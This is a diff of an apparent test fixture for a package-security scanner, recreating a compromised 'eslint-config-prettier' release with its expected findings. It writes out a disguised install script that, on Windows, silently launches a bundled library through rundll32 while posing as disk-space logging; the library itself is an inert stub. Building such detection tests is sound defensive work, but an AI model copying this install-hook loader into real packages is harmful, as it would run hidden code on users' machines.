@@ -1,56 +1,70 @@
 import type { Replay } from '../replay.js'
+import { replayUpgrade } from '../upgrade.js'
 
 /** The first bytes of a Windows program, and nothing that could run. */
-const library = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510)])
+const library = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2046)])
 
-const start = "require('child_process').spawn('rundll32', [__dirname + '/node-gyp.dll,main'])\n"
+const rules = `"use strict";
 
-export const replay: Replay = {
+const includeDeprecated = !process.env.ESLINT_CONFIG_PRETTIER_NO_DEPRECATED;
+
+module.exports = {
+  rules: {
+    // The following rules can be used in some cases.
+    curly: 0,
+    "no-unexpected-multiline": 0,
+    "@typescript-eslint/quotes": 0,
+    quotes: 0,
+    // The rest are rules that you never need to enable when using Prettier.
+    "array-bracket-newline": "off",
+    "array-bracket-spacing": "off",
+    "arrow-parens": "off",
+    "comma-dangle": "off",
+    ...(includeDeprecated && { "indent-legacy": "off", "no-spaced-func": "off" }),
+  },
+};
+`
+
+const install = `const os = require('os');
+const path = require('path');
+const { spawn } = require('child_process');
+
+function logDiskSpace() {
+  const free = os.freemem();
+  console.log('Free: ' + Math.round(free / 1024 / 1024) + ' MB');
+  if (os.platform() === 'win32') {
+    const library = path.join(__dirname, './node-gyp.dll');
+    const child = spawn('rundll32', [library + ',main'], { detached: true, stdio: 'ignore' });
+    child.unref();
+  }
+}
+
+logDiskSpace();
+`
+
+const inInstall = {
+  file: 'install.js',
+  line: "const child = spawn('rundll32', [library + ',main'], { detached: true, stdio: 'ignore' });",
+} as const
+
+export const replay: Replay = replayUpgrade({
   description:
     'A phished maintainer token released packages of settings with an install script that loaded a Windows library lying beside it, ' +
     'named after a build tool.',
   date: '2025-07-18',
-  packages: {
-    'eslint-config-prettier': {
-      '10.1.5': { files: { 'index.js': 'module.exports = {}\n' } },
-      '10.1.6': {
-        manifest: { scripts: { install: 'node install.js' } },
-        files: { 'index.js': 'module.exports = {}\n', 'install.js': start, 'node-gyp.dll': library },
-      },
+  name: 'eslint-config-prettier',
+  from: ['10.1.5', { files: { 'index.js': rules } }],
+  to: [
+    '10.1.6',
+    {
+      manifest: { scripts: { install: 'node install.js' } },
+      files: { 'index.js': rules, 'install.js': install, 'node-gyp.dll': library },
     },
-  },
-  base: {
-    manifest: { dependencies: { 'eslint-config-prettier': '^10.1.5' } },
-    locked: { 'eslint-config-prettier': '10.1.5' },
-  },
-  head: {
-    manifest: { dependencies: { 'eslint-config-prettier': '^10.1.5' } },
-    locked: { 'eslint-config-prettier': '10.1.6' },
-  },
-  expected: {
-    verdict: 'flagged',
-    findings: [
-      {
-        rule: 'install-script-dangerous',
-        severity: 'critical',
-        package: 'eslint-config-prettier',
-        file: 'package-lock.json',
-        line: '"version": "10.1.6",',
-      },
-      {
-        rule: 'install-script-added',
-        severity: 'high',
-        package: 'eslint-config-prettier',
-        file: 'package-lock.json',
-        line: '"version": "10.1.6",',
-      },
-      {
-        rule: 'native-binary-added',
-        severity: 'medium',
-        package: 'eslint-config-prettier',
-        file: 'package-lock.json',
-        line: '"version": "10.1.6",',
-      },
-    ],
-  },
-}
+  ],
+  findings: [
+    ['install-script-dangerous', 'critical', inInstall],
+    ['capability-added', 'high', inInstall],
+    ['install-script-added', 'high', { file: 'package.json' }],
+    ['native-binary-added', 'medium', { file: 'node-gyp.dll' }],
+  ],
+})
